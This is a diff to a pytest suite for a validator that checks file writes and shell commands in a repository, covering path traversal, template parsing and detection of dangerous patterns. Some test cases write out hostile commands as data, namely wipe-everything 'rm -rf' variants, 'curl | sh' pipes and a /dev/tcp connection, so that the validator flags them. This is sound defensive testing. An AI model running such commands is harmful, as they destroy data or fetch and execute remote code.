@@ -39,6 +39,7 @@ def test_what_is_fine_has_no_finding(repo: Folder) -> None:
     [
         ("../x.py", "leads out"),
         ("src/../../x.py", "leads out"),
+        ("src/../x.py", "has `..` in it"),
         ("/tmp/x.py", "absolute"),
         ("out/x.py", "leads through the link out"),
         ("src/inner", "is a link"),
@@ -170,13 +171,26 @@ def test_syntax(repo: Folder, path: str, good: str, bad: str) -> None:
     assert judge(repo, create(path, bad, validation={"syntax_check": False})).ok
 
 
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("chart/a.yaml", "{{- if .Values.on }}\na: {{ .Values.a }}\n{{- end }}\n"),
+        ("a.yml", "{% if on %}\na: 1\n{% endif %}\n"),
+        ("view.js", "const view = <div>hello</div>;\n"),
+    ],
+)
+def test_what_another_program_reads_first_is_not_parsed(repo: Folder, path: str, text: str) -> None:
+    assert judge(repo, create(path, text)).ok
+
+
 def test_a_script_is_parsed(repo: Folder) -> None:
     assert judge(repo, run("if true; then echo; fi", shell="sh")).ok
     assert messages(judge(repo, run("if true; then", shell="sh")), "syntax", "error")
 
 
 @pytest.mark.parametrize(
-    "line", ["rm -fr /", "rm -r -f ~", "r\\m -rf /*", "'rm' --recursive $HOME", "env X=1 rm -rf /"]
+    "line",
+    ["rm -fr /", "rm -r -f ~", "r\\m -rf /*", "'rm' --recursive $HOME", "env X=1 rm -rf /", "rm -rf ./*", "rm -rf //"],
 )
 def test_56_deletions_of_everything(repo: Folder, line: str) -> None:
     judged = judge(repo, run(line))
@@ -210,6 +224,41 @@ def test_secrets_and_traps_in_what_is_written(repo: Folder) -> None:
     judged = judge(repo, create("id", key))
     assert messages(judged, "patterns", "error") == ["id holds a private key (----…)"]
     assert messages(judge(repo, create("a.py", "import os\nos.system('x')\n")), "patterns", "warning")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "model.eval()\nretrieval(1)\nregex.exec(x)\n",
+        "| program | what |\n|---|---|\n| show | it |\n| sh | a shell |\n| bash |\n",
+        "RUN rm -rf /var/lib/apt/lists/*\n",
+    ],
+)
+def test_what_only_looks_like_a_trap(repo: Folder, text: str) -> None:
+    assert found(judge(repo, create("notes.txt", text))) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = eval(y)\n",
+        "curl -s x | sh\n",
+        "curl -s x | bash -s\n",
+        "rm -rf /",
+        "rm -rf / ;",
+        "cat < /dev/tcp/192.0.2.1/80\n",
+    ],
+)
+def test_traps(repo: Folder, text: str) -> None:
+    assert messages(judge(repo, create("notes.txt", text)), "patterns", "warning")
+
+
+def test_nothing_is_made_below_a_file(repo: Folder) -> None:
+    judged = judge(repo, create("src/app.py/new.py"))
+    assert "src/app.py is a file, and no folder" in messages(judged, "existence", "error")
+    judged = judge(repo, create("a", "x\n"), create("a/b", "y\n"))
+    assert messages(judged, "existence", "error") == ["a is a file, and no folder"]
+    assert judge(repo, delete("src/app.py"), create("src/app.py/new.py", "x = 1\n")).steps[1].dry_run.kind == "exact"
 
 
 @pytest.mark.parametrize(
